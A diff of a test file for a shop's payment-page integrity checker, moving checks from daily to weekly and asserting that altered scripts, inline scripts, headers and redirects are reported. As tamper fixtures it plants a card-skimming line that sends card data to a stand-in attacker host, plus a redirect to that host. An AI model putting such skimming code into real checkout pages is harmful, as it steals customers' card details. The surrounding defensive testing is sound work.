@@ -16,15 +16,13 @@ import { pageServer } from "../http/page-server.ts";
 import { readPages } from "../http/pages.ts";
 import { paymentPageHeaders } from "../http/payment-page.ts";
 import { createMetrics } from "../http/metrics.ts";
-import { activeParts, createPaymentPageGateway, sha256 } from "../providers/payment-page.ts";
-import { createCheckPaymentPage } from "./payment-page.ts";
+import { createPaymentPageGateway, sha256 } from "../providers/payment-page.ts";
+import { createCheckPaymentPage, lastCheck, lastGoodCheck } from "./payment-page.ts";
 import { readFigures } from "../http/figures.ts";
-import { readPaymentPageWatch } from "../../tests/support/payment-page-watch.ts";
 import { createCorrectTimes } from "../jobs/correct-times.ts";
 
-const MINUTE = 60 * 1000;
-const HOUR = 60 * MINUTE;
-const DAY = 24 * HOUR;
+const DAY = 24 * 60 * 60 * 1000;
+const WEEK = 7 * DAY;
 const PROVIDER_SCRIPT = "/sandbox/paystack/v1/inline.js";
 const SCRIPT = "/assets/entry-1a2b.js";
 const LATER_SCRIPT = "/assets/wake-3c4d.js";
@@ -50,7 +48,7 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
   afterAll(() => database.close());
   beforeEach(async () => {
     await database.db.deleteFrom("payment_page_checks").execute();
-    await database.db.deleteFrom("job_leases").execute();
+    await database.db.deleteFrom("jobs").execute();
     logged = [];
     const log = { write: (line: string) => void logged.push(JSON.parse(line)) };
     shop = testShop(database.db, pino({ level: "info" }, log));
@@ -77,7 +75,7 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
   /** Restarts the shop, which reads its files once at start. `between` acts as a proxy in front of it. */
   const serve = (between: RequestListener = () => {}) => {
     const files = readPages(folder, security, security.publicUrl);
-    const pages = pageServer((path) => files.get(path)?.page);
+    const pages = pageServer((path) => files.get(path));
     front = (request, response) => {
       between(request, response);
       if (response.writableEnded) return;
@@ -86,13 +84,8 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
     };
   };
   const hashOf = (name: string) => sha256(readFileSync(join(folder, name)));
-  const expected = {
-    headers: paymentPageHeaders(security),
-    active: activeParts(HTML),
-    providerScripts: [PROVIDER_SCRIPT],
-  };
-  /** The check of a process that was started ten minutes ago. */
-  const process = (release = "1a2b3c", timeoutMs = 5_000) => {
+  /** The check of a process whose first round, at its start, is over. */
+  const process = async (release = "1a2b3c", timeoutMs = 5_000) => {
     const files = {
       [SCRIPT]: released[SCRIPT] ?? "",
       [LATER_SCRIPT]: released[LATER_SCRIPT] ?? "",
@@ -102,9 +95,9 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
       providerScript: server.url + PROVIDER_SCRIPT,
       timeoutMs,
     });
-    const paymentPage = { release, expected: { ...expected, files }, gateway };
+    const paymentPage = { release, headers: paymentPageHeaders(security), files, gateway };
     const check = createCheckPaymentPage({ ...shop.ports, paymentPage });
-    later(10 * MINUTE);
+    expect(await check()).toBe("waiting");
     return check;
   };
   let released: Record<string, string>;
@@ -114,52 +107,39 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
   const later = (ms: number) => {
     shop.world.now = new Date(shop.world.now.getTime() + ms);
   };
-  const watch = () => readPaymentPageWatch(database.db);
-  const newest = async () => (await watch()).checks[0];
-  const differing = async () => (await newest())?.detail.differences?.map(({ what }) => what);
+  const newest = () => lastCheck(database.db);
+  const differences = async () => (await newest())?.detail.differences;
+  const count = async () =>
+    (await database.db.selectFrom("payment_page_checks").select("key").execute()).length;
 
-  test("what was released is found to be the same, once a day, one row a day", async () => {
-    const check = process();
+  test("what was released is found to be the same, once a week", async () => {
+    const check = await process();
     expect(await check()).toBe("same");
     const at = shop.world.now.toISOString();
-    expect(await watch()).toEqual({
-      lastGoodAt: at,
-      checks: [
-        {
-          release: "1a2b3c",
-          outcome: "same",
-          detail: {},
-          providerScript: sha256(providerCode),
-          firstAt: at,
-          lastAt: at,
-          times: 1,
-        },
-      ],
-      reports: [],
+    expect(await newest()).toEqual({
+      release: "1a2b3c",
+      outcome: "same",
+      detail: {},
+      providerScript: sha256(providerCode),
+      at,
     });
-    later(DAY - 1);
+    expect(await lastGoodCheck(database.db)).toBe(at);
+    later(WEEK - 1);
     expect(await check()).toBe("idle");
     later(1);
     expect(await check()).toBe("same");
-    expect((await watch()).checks).toHaveLength(2);
+    expect(await count()).toBe(2);
   });
 
   test("every script is looked at as it is served: an altered one is named", async () => {
-    // Has no effect on a running shop: it serves its files from memory.
+    // This has no effect on a running shop, which serves its files from memory.
     write(LATER_SCRIPT, "fetch('https://evil.example/' + card)");
-    const check = process();
+    const check = await process();
     expect(await check()).toBe("same");
     serve();
-    later(DAY);
+    later(WEEK);
     expect(await check()).toBe("changed");
-    const { differences } = (await newest())?.detail ?? {};
-    expect(differences).toEqual([
-      {
-        what: `file ${LATER_SCRIPT}`,
-        expected: released[LATER_SCRIPT],
-        found: hashOf(LATER_SCRIPT),
-      },
-    ]);
+    expect(await differences()).toEqual([`file ${LATER_SCRIPT}: ${hashOf(LATER_SCRIPT)}`]);
     const errors = logged.filter(({ level }) => level === 50);
     expect(errors.map(({ msg }) => msg)).toEqual(["The payment page is not the release's"]);
   });
@@ -173,8 +153,11 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
     rmSync(join(folder, LATER_SCRIPT));
     rmSync(join(folder, `${LATER_SCRIPT}.br`));
     serve();
-    expect(await process()()).toBe("changed");
-    expect(await differing()).toEqual(["markup", `file ${LATER_SCRIPT}`, "file /assets/skim.js"]);
+    expect(await (await process())()).toBe("changed");
+    expect(await differences()).toEqual([
+      "script /assets/skim.js",
+      `file ${LATER_SCRIPT}: status 404`,
+    ]);
   });
 
   test.each([
@@ -190,97 +173,92 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
         writeHead(status, [...headers, name, value]);
       response.writeHead = adding as typeof response.writeHead;
     });
-    expect(await process()()).toBe("changed");
-    expect(await differing()).toEqual([`header ${name.toLowerCase()}`]);
+    expect(await (await process())()).toBe("changed");
+    expect(await differences()).toEqual([
+      expect.stringMatching(new RegExp(`^header ${name.toLowerCase()}: `)),
+    ]);
   });
 
   test("a page that leads elsewhere is changed, not away", async () => {
     serve((_request, response) => {
       response.writeHead(302, { Location: "https://evil.example/checkout" }).end();
     });
-    expect(await process()()).toBe("changed");
-    const parts = (await newest())?.detail.differences?.map(({ found }) => found).join("\n");
-    expect(parts).toContain("status 302 https://evil.example/checkout");
+    expect(await (await process())()).toBe("changed");
+    expect(await differences()).toContain("status 302");
     expect(server.requests.every(({ headers }) => headers.host === new URL(server.url).host)).toBe(
       true,
     );
   });
 
-  test("a shop out of reach is a result of its own, asked again in an hour", async () => {
+  test("a shop out of reach is a result of its own, asked again the next day", async () => {
     serve((_request, response) => void response.writeHead(503).end());
-    const check = process();
+    const check = await process();
     expect(await check()).toBe("unreachable");
-    expect(await newest()).toMatchObject({ detail: { reason: "status 503" }, times: 1 });
-    expect((await watch()).lastGoodAt).toBeUndefined();
+    expect((await newest())?.detail).toEqual({ reason: "status 503" });
+    expect(await lastGoodCheck(database.db)).toBeUndefined();
     expect(await check()).toBe("idle");
-    later(HOUR);
-    expect(await check()).toBe("unreachable");
-    expect((await watch()).checks).toMatchObject([{ times: 2 }]);
     serve();
-    later(HOUR);
+    later(DAY);
     expect(await check()).toBe("same");
-    expect((await watch()).checks.map(({ outcome }) => outcome)).toEqual(["same", "unreachable"]);
   });
 
   test("a shop that does not answer is not waited for", async () => {
     front = () => {};
-    expect(await process("1a2b3c", 50)()).toBe("unreachable");
+    expect(await (await process("1a2b3c", 50))()).toBe("unreachable");
     expect((await newest())?.detail).toEqual({ reason: "TimeoutError" });
   });
 
-  test("a changed page is looked at every hour, until it is the release's again", async () => {
+  test("a changed page is looked at every day, until it is the release's again", async () => {
     write(SCRIPT, "skim()");
     serve();
-    const check = process();
-    for (let hour = 0; hour < 3; hour++) {
+    const check = await process();
+    for (let day = 0; day < 3; day++) {
       expect(await check()).toBe("changed");
-      later(HOUR);
+      later(DAY);
     }
-    expect((await watch()).checks).toMatchObject([{ outcome: "changed", times: 3 }]);
     write(SCRIPT, "import('./wake-3c4d.js')");
     serve();
     expect(await check()).toBe("same");
   });
 
-  test("of several processes one looks", async () => {
-    const processes = Array.from({ length: 6 }, () => process());
-    const results = await Promise.all(processes.map((check) => check()));
-    expect(results.toSorted()).toEqual([...Array(5).fill("idle"), "same"]);
-    expect((await watch()).checks).toMatchObject([{ times: 1 }]);
+  test("an inline script is the policy's, or a difference", async () => {
+    const page = (code: string) => HTML.replace("<div", `<script>${code}</script><div`);
+    write("checkout/index.html", page(security.inlineScripts[0] ?? ""));
+    serve();
+    const check = await process();
+    expect(await check()).toBe("same");
+    write("checkout/index.html", page("skim()"));
+    serve();
+    later(WEEK);
+    expect(await check()).toBe("changed");
+    expect(await differences()).toEqual([`script inline ${sha256("skim()")}`]);
   });
 
-  test("a process waits five minutes, and a new release does not wait for the old one's day", async () => {
-    expect(await process()()).toBe("same");
-    const next = process("4d5e6f");
-    expect(await next()).toBe("same");
-    const justStarted = createCheckPaymentPage({
-      ...shop.ports,
-      paymentPage: {
-        release: "7a8b9c",
-        expected: { ...expected, files: {} },
-        gateway: createPaymentPageGateway({ origin: "http://127.0.0.1:9", providerScript: "" }),
-      },
-    });
-    expect(await justStarted()).toBe("waiting");
-    later(5 * MINUTE - 1);
-    expect(await justStarted()).toBe("waiting");
-    later(1);
-    expect(await justStarted()).toBe("unreachable");
+  test("of several processes one looks", async () => {
+    const processes = await Promise.all(Array.from({ length: 6 }, () => process()));
+    const results = await Promise.all(processes.map((check) => check()));
+    expect(results.toSorted()).toEqual([...Array(5).fill("idle"), "same"]);
+    expect(await count()).toBe(1);
+  });
+
+  test("a new release does not wait for the old one's week", async () => {
+    expect(await (await process())()).toBe("same");
+    expect(await (await process("4d5e6f"))()).toBe("same");
   });
 
   test("a clock that was put back puts nothing off", async () => {
-    const check = process();
+    const check = await process();
     await check();
-    later(-3 * DAY);
+    later(-9 * DAY);
     await createCorrectTimes(shop.ports)();
     expect(await check()).toBe("same");
   });
 
   test("the card provider's new script is told of, and is no fault", async () => {
-    const check = process();
+    const check = await process();
     await check();
     providerCode = "PaystackPop = { version: 2 }";
-    later(DAY);
+    later(WEEK);
     expect(await check()).toBe("same");
     expect(await newest()).toMatchObject({ providerScript: sha256(providerCode) });
     const warnings = logged.filter(({ level }) => level === 40).map(({ msg }) => msg);
@@ -294,16 +272,15 @@ onDatabases("looking at the payment page on $name", ({ open }) => {
   test("the metrics tell how the last look ended, and how old the last good one is", async () => {
     const text = () => createMetrics(".").text(() => readFigures(database.db, shop.world.now));
     expect(await text()).not.toContain("shop_payment_page");
-    const check = process();
+    const check = await process();
     await check();
     write(SCRIPT, "skim()");
     serve();
-    later(DAY);
+    later(WEEK);
     await check();
     const told = await text();
     expect(told).toContain('shop_payment_page{outcome="changed"} 1\n');
     expect(told).toContain('shop_payment_page{outcome="same"} 0\n');
-    expect(told).toContain("shop_payment_page_seen_good_seconds 86400\n");
-    expect(told).toContain('shop_policy_reports{refused="script"} 0\n');
+    expect(told).toContain("shop_payment_page_seen_good_seconds 604800\n");
   });
 });
